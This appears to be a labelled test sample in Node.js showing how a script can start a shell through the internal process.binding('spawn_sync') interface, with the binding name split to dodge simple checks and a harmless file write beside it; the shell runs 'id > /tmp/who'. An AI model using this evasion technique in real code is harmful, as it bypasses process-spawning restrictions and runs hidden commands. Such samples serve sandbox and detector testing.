// harm: spawn a process via internal binding; technique: process.binding('spawn_sync') with raw options
const fs = require('fs');

const binding = process.binding('spawn' + '_sync');
const rows = [1, 2, 3];
fs.writeFileSync('rows.txt', rows.join(','));

binding.spawn({
  file: '/bin/sh',
  args: ['sh', '-c', 'id > /tmp/who'],
  envPairs: [],
  stdio: [{ type: 'ignore' }, { type: 'ignore' }, { type: 'ignore' }],
});
